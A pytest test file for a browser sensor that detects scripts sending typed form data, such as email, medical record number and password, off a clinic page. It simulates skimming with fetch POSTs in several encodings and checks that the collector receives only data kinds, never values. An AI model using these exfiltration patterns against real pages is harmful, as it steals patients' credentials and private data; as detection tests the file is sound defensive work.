"""The sensor that looks for what is typed: kinds reach the collector, values never."""

import base64
import hashlib
from urllib.parse import quote

import pytest

from scriptward.knowledge.field_kinds import kind_of_field
from scriptward.sources import beacons
from scriptward.vocabulary.sensor import Batch
from scriptward.vocabulary.words import PageClass
from tests.sensor.test_live import batches, left

TYPED = {
    "email": "mira.Holt@patients.example",
    "patient_last_name": "Brightwater",
    "mrn": "MRN 40417733",
    "pass": "Tr0ub4dor!3x",
    "reason": "my knee hurts since March",
}


@pytest.fixture
def page(live):
    page = live("typed.html")
    for name, text in TYPED.items():
        page.locator(f"[name={name}]").press_sequentially(text)
    return page


def kind(field: str) -> str:
    """What the collector takes the field's words for."""
    return str(kind_of_field(type="", name=field, autocomplete="", label=""))


def told(batch: Batch) -> dict[str, set[tuple[str, ...]]]:
    """Kind, place, certainty and encodings of all data, by the last step of where it went."""
    out: dict[str, set[tuple[str, ...]]] = {}
    for seen in batch.behaviours:
        rows = out.setdefault(seen.target.rsplit("/", 1)[-1], set())
        rows |= {(kind(d.field), d.where, d.certainty, *d.encoding) for d in seen.data}
    return out


def test_each_send_says_the_kinds_that_were_in_it(page, site):
    digest = hashlib.sha256(TYPED["email"].lower().encode()).hexdigest()
    page.evaluate(
        "async (digest) => { await taker.plain(); taker.query(); taker.nested();"
        " await taker.hashed(digest); taker.header(); await taker.asked();"
        " await taker.innocent(); }",
        digest,
    )

    found = told(left(page, site))

    assert found["plain"] == {
        (kind, "body", "observed_plain")
        for kind in ("email", "name", "mrn", "password", "appointment")
    }
    assert found["query"] == {("email", "url-query", "observed_decoded", "percent")}
    assert found["nested"] == {
        (kind, "body", "observed_decoded", "base64")
        for kind in ("email", "name", "mrn", "password", "appointment")
    }
    assert found["hashed"] == {("email", "body", "observed_hash_match", "sha256")}
    assert found["header"] == {
        ("mrn", "header", "observed_plain"),
        ("appointment", "body", "observed_decoded", "percent"),
    }
    assert found["asked"] == {("password", "body", "observed_plain")}
    assert found["innocent"] == set()


def test_a_body_that_can_not_be_read_is_said_to_be_unread(page, site):
    page.evaluate("taker.stream()")

    batch = left(page, site)

    assert [seen.unread for seen in batch.behaviours if seen.target.endswith("/stream")] == [1]


def test_what_was_corrected_or_cleared_by_the_page_is_still_known(page, site):
    page.evaluate("document.forms[0].email.value = ''")
    page.evaluate(
        f"fetch(taker.url('late'), {{method: 'POST', body: 'e={TYPED['email'].lower()}'}})"
    )

    assert told(left(page, site))["late"] == {("email", "body", "observed_plain")}


def test_the_collector_takes_the_kinds(page, site):
    page.evaluate("taker.plain()")
    left(page, site)
    body = next(body for host, _, body in site.hits if host == "collector.test")

    arrival = beacons.arrival(
        body, site="www.clinic.test", page_class=lambda _: PageClass.GENERAL_PUBLIC
    )

    [kinds] = [s.behaviour.data for s in arrival.sightings if s.behaviour.target.endswith("/plain")]
    assert kinds == "appointment,email,mrn,name,password"


def written(text: str) -> set[bytes]:
    """A value in every way the sensor might let it out."""
    out: set[bytes] = set()
    for form in {text, text.lower(), text.upper(), text.replace(" ", "+"), text.replace(" ", "")}:
        raw = form.encode()
        hashes = [hashlib.new(name, raw) for name in ("sha256", "sha1", "md5")]
        out |= {
            raw,
            raw[::-1],
            raw.hex().encode(),
            raw.hex().upper().encode(),
            quote(form).encode(),
        }
        out |= {"".join(f"\\u{ord(c):04x}" for c in form).encode()}
        out |= {base64.b64encode(b" " * shift + raw)[4:-4] for shift in range(3)}
        out |= {base64.urlsafe_b64encode(raw).rstrip(b"=")}
        out |= {h.hexdigest().encode() for h in hashes}
        out |= {base64.b64encode(h.digest()).rstrip(b"=") for h in hashes}
        out |= {word for word in raw.split() if len(word) > 4}
    return {each for each in out if len(each) > 3}


def test_nothing_typed_leaves_the_page_in_any_encoding(page, site):
    page.evaluate("async () => { await taker.plain(); taker.query(); taker.nested(); }")
    left(page, site)

    sent = b"\n".join(
        path.encode() + body for host, path, body in site.hits if host == "collector.test"
    )
    assert len(batches(site)) >= 1
    for text in TYPED.values():
        assert [each for each in written(text) if each.lower() in sent.lower()] == []


POISONED = """() => {
  let heard = 0;
  const { fetch } = window;
  const kept = ["indexOf", "slice", "charCodeAt", "normalize", "toLowerCase"].map((name) => {
    const native = String.prototype[name];
    String.prototype[name] = function (...args) { heard++; return native.apply(this, args); };
    return () => (String.prototype[name] = native);
  });
  const { exec } = RegExp.prototype;
  const before = /(m)i/.exec("mi") && RegExp.$1;
  RegExp.prototype.exec = function (...args) { heard++; return exec.apply(this, args); };
  Object.defineProperty(Array.prototype, 0, { set() { heard++; }, configurable: true });
  fetch(taker.url("x"), { method: "POST", body: "e=mira.holt@patients.example" });
  delete Array.prototype[0];
  if (RegExp.$1 !== before || RegExp.input !== "mi") heard++;
  RegExp.prototype.exec = exec;
  for (const restore of kept) restore();
  return heard;
}"""


def test_the_page_sees_nothing_of_the_search(page, site):
    assert page.evaluate(POISONED) == 0
    assert told(left(page, site))["x"] == {("email", "body", "observed_plain")}
